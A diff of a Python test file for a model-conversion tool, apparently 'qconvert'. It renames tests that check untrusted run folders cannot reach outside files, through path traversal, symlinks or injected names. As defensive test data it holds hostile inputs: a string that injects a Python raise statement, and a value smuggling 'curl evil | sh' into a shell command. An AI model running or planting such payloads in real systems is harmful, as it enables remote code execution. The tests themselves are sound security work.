@@ -1,4 +1,4 @@
-"""A run folder that somebody else made: it is read, and leads to nothing outside of it."""
+"""An untrusted run folder is read, and leads to nothing outside of it."""
 
 import ast
 import json
@@ -29,13 +29,13 @@ ENGINE = Path("run/engines/cpu-int8")
 HOSTILE = '"]); raise SystemExit("ran") #'
 
 
-def rewritten(**changed: Any) -> None:
-    told = json.loads((ENGINE / "engine.json").read_text())
-    (ENGINE / "engine.json").write_text(json.dumps({**told, **changed}))
+def change_engine_json(**changed: Any) -> None:
+    record = json.loads((ENGINE / "engine.json").read_text())
+    (ENGINE / "engine.json").write_text(json.dumps({**record, **changed}))
 
 
 @pytest.mark.parametrize(
-    ("changed", "said"),
+    ("changed", "message"),
     [
         ({"files": []}, "names no files"),
         ({"files": ["../../run.toml"]}, "is no file in it"),
@@ -52,28 +52,28 @@ def rewritten(**changed: Any) -> None:
         ({"build_seconds": "long"}, "holds no engine"),
     ],
 )
-def test_an_engine_names_files_of_its_own_folder_only(
-    changed: dict[str, Any], said: str, world: Path
+def test_engine_with_files_outside_its_folder_is_rejected(
+    changed: dict[str, Any], message: str, world: Path
 ) -> None:
-    rewritten(**changed)
+    change_engine_json(**changed)
     with pytest.raises(QConvertError, match="holds no engine") as caught:
         built_engines.read_engine(ENGINE)
-    assert said in str(caught.value)
+    assert message in str(caught.value)
     for place in (Path("run"), ENGINE):
         with pytest.raises(QConvertError, match="holds no engine"):
             resolve([place])
 
 
 @pytest.mark.parametrize("form", ["onnxruntime", "triton"])
-def test_a_package_takes_nothing_from_elsewhere(form: Any, world: Path) -> None:
+def test_package_of_an_engine_with_outside_files_is_rejected(form: Any, world: Path) -> None:
     Path("secret").write_text("secret")
-    rewritten(files=["../../../secret"], graph="../../../secret")
+    change_engine_json(files=["../../../secret"], graph="../../../secret")
     with pytest.raises(QConvertError, match="is no file in it"):
         write_package(load_run(Path("run")), PackageOptions(form, Path("out/pack"), "cpu-int8"))
     assert not Path("out").exists()
 
 
-def test_a_package_name_stays_in_its_folder(world: Path) -> None:
+def test_package_name_that_leaves_the_folder_is_rejected(world: Path) -> None:
     for name in ("..", "../x", "/x", "a/b", ".", "a\nb", "a;b"):
         with pytest.raises(UsageError, match="cannot be the name of a folder"):
             write_package(
@@ -82,24 +82,24 @@ def test_a_package_name_stays_in_its_folder(world: Path) -> None:
     assert not Path("out").exists()
 
 
-def test_no_name_of_a_model_or_an_engine_becomes_code(world: Path) -> None:
-    found = make_bundle(load_run(Path("run")), "cpu-int8")
+def test_hostile_names_do_not_become_code_of_the_package(world: Path) -> None:
+    bundle = make_bundle(load_run(Path("run")), "cpu-int8")
     (ENGINE / HOSTILE).write_bytes(b"")
-    told = replace(
-        found,
-        engine=replace(found.engine, files=(HOSTILE,)),
+    bundle = replace(
+        bundle,
+        engine=replace(bundle.engine, files=(HOSTILE,)),
         outputs=(TensorSpec(HOSTILE, np.dtype("float32"), ("N", 24)),),
     )
     from qconvert.backends import cpu
 
-    program = run_script(told, cpu.load_spec(told.engine))
-    words = {each.value for each in ast.walk(ast.parse(program)) if isinstance(each, ast.Constant)}
-    assert HOSTILE in words
-    assert not [each for each in ast.walk(ast.parse(program)) if isinstance(each, ast.Raise)]
+    program = run_script(bundle, cpu.load_spec(bundle.engine))
+    nodes = list(ast.walk(ast.parse(program)))
+    assert HOSTILE in {node.value for node in nodes if isinstance(node, ast.Constant)}
+    assert not any(isinstance(node, ast.Raise) for node in nodes)
 
 
-def test_what_an_engine_was_made_with_becomes_no_command_of_a_shell(world: Path) -> None:
-    rewritten(made_with={"runtime": 'x"; curl evil | sh #'})
+def test_hostile_requirement_of_an_engine_is_rejected(world: Path) -> None:
+    change_engine_json(made_with={"runtime": 'x"; curl evil | sh #'})
     with pytest.raises(UsageError, match="no package and its release"):
         write_package(
             load_run(Path("run")), PackageOptions("onnxruntime", Path("pack"), "cpu-int8")
@@ -108,7 +108,7 @@ def test_what_an_engine_was_made_with_becomes_no_command_of_a_shell(world: Path)
 
 
 @pytest.mark.parametrize("folder", ["engines", "calibration", "analysis", "engines/cpu-int8"])
-def test_a_run_whose_folders_are_links_to_elsewhere_is_refused(
+def test_run_with_folders_linked_to_elsewhere_is_rejected(
     folder: str, world: Path, qconvert: Callable[..., Outcome]
 ) -> None:
     place = Path("run") / folder
@@ -127,30 +127,30 @@ def test_a_run_whose_folders_are_links_to_elsewhere_is_refused(
     assert sorted(os.fspath(path) for path in Path("elsewhere").rglob("*")) == before
 
 
-def test_a_link_to_the_run_itself_is_no_matter(world: Path) -> None:
+def test_link_to_a_run_is_accepted(world: Path) -> None:
     Path("latest").symlink_to("run")
     assert RunFolder(Path("latest")).settings().model is not None
 
 
 @pytest.mark.parametrize("name", ["../secret.png", "/etc/hostname", "link.png"])
-def test_pictures_that_a_report_names_elsewhere_are_not_shown(name: str, world: Path) -> None:
+def test_report_images_outside_the_run_are_not_shown(name: str, world: Path) -> None:
     Path("secret.png").write_bytes(b"secret")
     Path("run/link.png").symlink_to(Path("secret.png").absolute())
     Path("run/own.png").write_bytes(b"own")
-    told = json.loads(Path("run/report.json").read_text())
-    told["evidence"]["feature_maps"] = []
-    told["evidence"]["thumbnails"] = [
+    record = json.loads(Path("run/report.json").read_text())
+    record["evidence"]["feature_maps"] = []
+    record["evidence"]["thumbnails"] = [
         {"image": "a", "picture": name},
         {"image": "b", "picture": "own.png"},
     ]
-    Path("run/report.json").write_text(json.dumps(told))
+    Path("run/report.json").write_text(json.dumps(record))
     report = json_file.load(Path("run/report.json"))
     assert report_images(report, Path("run")) == {"own.png": b"own"}
 
 
-def test_an_engine_of_a_stranger_is_tried_once(world: Path) -> None:
+def test_untrusted_engine_is_crash_checked_once(world: Path) -> None:
     resolve([ENGINE])
-    kept = [each.step for each in cache.open_default().entries()]
-    assert "rehearse" in kept
+    steps = [entry.step for entry in cache.open_default().entries()]
+    assert "rehearse" in steps
     resolve([ENGINE])
-    assert [each.step for each in cache.open_default().entries()] == kept
+    assert [entry.step for entry in cache.open_default().entries()] == steps
